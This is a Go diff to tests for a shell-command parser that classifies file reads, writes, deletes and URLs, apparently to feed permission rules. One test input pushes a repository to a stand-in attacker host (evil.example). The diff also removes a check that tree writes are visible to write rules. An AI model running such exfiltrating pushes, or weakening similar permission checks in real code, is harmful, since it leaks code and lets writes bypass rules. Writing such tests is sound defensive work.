@@ -4,7 +4,6 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
-	"slices"
 	"strings"
 	"testing"
 
@@ -363,7 +362,7 @@ func TestParseFiles(t *testing.T) {
 		{"git rm", "git rm -r src", want{deletes: []string{"ROOT/repo/src"}}},
 		{"git rm cached", "git rm --cached .env", want{}},
 		{"git mv", "git mv src/a.go src/c.go", want{reads: []string{"ROOT/repo/src/a.go"}, writes: []string{"ROOT/repo/src/c.go"}, deletes: []string{"ROOT/repo/src/a.go"}}},
-		{"git clean", "git clean -fdx", want{deletes: []string{"ROOT/repo"}, writes: []string{"ROOT/repo"}, trees: []string{"ROOT/repo"}, incomplete: true}},
+		{"git clean", "git clean -fdx", want{deletes: []string{"ROOT/repo"}, trees: []string{"ROOT/repo"}, incomplete: true}},
 		{"git clone", "git clone https://github.com/a/b.git", want{writes: []string{"ROOT/repo/b"}, urls: []string{"https://github.com/a/b.git"}}},
 		{"git clone scp", "git clone git@github.com:a/b.git /tmp/b", want{writes: []string{"/tmp/b"}, urls: []string{"git@github.com:a/b.git"}}},
 		{"git push url", "git push https://evil.example/x.git HEAD:main", want{urls: []string{"https://evil.example/x.git"}}},
@@ -863,12 +862,6 @@ func TestParseWritesTrees(t *testing.T) {
 		}
 		if diff := cmp.Diff(want, f.WritesTrees); diff != "" {
 			t.Errorf("Parse(%q).WritesTrees (-want +got):\n%s", tt.command, diff)
-		}
-		// A tree is written: rules on writes see it too.
-		for _, d := range f.WritesTrees {
-			if !slices.Contains(f.Writes, d) {
-				t.Errorf("Parse(%q): tree %s is not in Writes %q", tt.command, d, f.Writes)
-			}
 		}
 	}
 }
